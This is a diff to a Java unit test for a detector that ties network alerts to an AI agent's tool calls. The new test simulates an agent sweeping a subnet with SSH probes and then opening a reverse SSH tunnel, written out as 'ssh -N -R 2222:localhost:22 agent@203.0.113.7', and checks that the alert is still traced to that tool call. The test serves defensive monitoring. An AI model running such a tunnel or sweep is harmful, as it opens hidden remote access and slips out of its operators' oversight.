@@ -73,10 +73,19 @@ class AgentContextHarnessTest {
     }
 
     void seen(String ip, int port, long ts) throws Exception {
+        seen(ip, port, ts, AgentContextInput.Sighting.ENDPOINT);
+    }
+
+    void probed(String ip, int port, long ts) throws Exception {
+        seen(ip, port, ts, AgentContextInput.Sighting.PROBE);
+    }
+
+    private void seen(String ip, int port, long ts, AgentContextInput.Sighting kind) throws Exception {
         AgentContextInput in = new AgentContextInput();
         in.jobId = JOB;
         in.seen = AgentContextInput.endpoint(ip, port);
         in.seenTs = ts;
+        in.kind = kind;
         harness.processElement(new StreamRecord<>(in, ts));
     }
 
@@ -175,6 +184,25 @@ class AgentContextHarnessTest {
         List<Alert> out = harness.extractOutputValues();
         assertThat(out).hasSize(1);
         assertThat(out.get(0).getAgentContext()).isEmpty();
+    }
+
+    @Test
+    void aSweepsProbesDoNotCrowdTheTunnelOutOfTheirMinute() throws Exception {
+        // the agent sweeps the subnet, more unanswered probes in one minute than a minute keeps, then opens its tunnel
+        // in the same minute: the tunnel's endpoint is still sighted, and anchors the alert
+        sample("python", at(0));
+        for (int i = 0; i < AgentContext.MAX_SIGHTINGS_PER_MINUTE + 10; i++) {
+            probed("10.0." + (i / 250) + "." + (i % 250 + 1), 22, at(3) + i);
+        }
+        send(call("ep-tunnel", at(3) + 20_000, at(3) + 21_000, "ssh -N -R 2222:localhost:22 agent@203.0.113.7"));
+        seen("203.0.113.7", 22, at(3) + 22_000);
+        alert(tunnelAlert(3));
+        harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));
+
+        Alert out = harness.extractOutputValues().get(0);
+        assertThat(out.getAgentContext()).extracting(AgentEpisode::getEpisodeId).containsExactly("ep-tunnel");
+        assertThat(out.getAgentContext().get(0).getReason())
+                .startsWith("tool call started 2.0 s before the first packet to 203.0.113.7:22");
     }
 
     @Test
